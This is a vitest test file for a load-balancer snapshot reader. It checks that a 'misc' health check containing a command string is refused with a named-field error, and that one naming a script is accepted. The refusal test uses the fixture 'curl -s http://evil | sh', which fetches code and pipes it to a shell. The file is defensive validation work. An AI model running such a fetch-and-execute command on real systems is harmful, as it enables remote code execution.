/** A JSON snapshot's health section is held to the API's rules: a misc check with a command (the old shape) is refused, naming the field. */
import { describe, expect, it } from 'vitest';
import { readSnapshotJson } from './json';

const snapshot = (check: unknown) => JSON.stringify({
  version: 1, createdAt: '2026-12-04T20:00:00Z', host: 'lvs1', ipvs: { version: '1.2.1' },
  services: [{
    key: { kind: 'addr', family: 'inet', protocol: 'tcp', address: '10.0.0.1', port: 80 }, scheduler: 'rr',
    destinations: [{ family: 'inet', address: '10.0.1.1', port: 80, forward: 'dr', weight: 1 }],
  }],
  health: [{
    service: { kind: 'addr', family: 'inet', protocol: 'tcp', address: '10.0.0.1', port: 80 },
    realServers: [{ destination: { family: 'inet', address: '10.0.1.1', port: 80, forward: 'dr', weight: 1 }, checks: [check] }],
  }],
});

describe('JSON snapshot health checks', () => {
  it('refuses a misc check with a command string, naming the field', () => {
    const r = readSnapshotJson(snapshot({ type: 'misc', command: 'curl -s http://evil | sh' }));
    expect(r.ok).toBe(false);
    expect(r.ok ? [] : r.errors).toContainEqual({
      path: 'health.0.realServers.0.checks.0.command',
      message: expect.stringMatching(/^command strings are not accepted: a misc check names a script in the agent's checks folder/),
    });
  });
  it('reads a misc check that names a script', () => {
    const r = readSnapshotJson(snapshot({ type: 'misc', script: 'check-web', dynamic: true }));
    expect(r.ok && r.snapshot.health?.[0]?.realServers[0]?.checks).toEqual([{ type: 'misc', script: 'check-web', dynamic: true, timing: {} }]);
  });
});
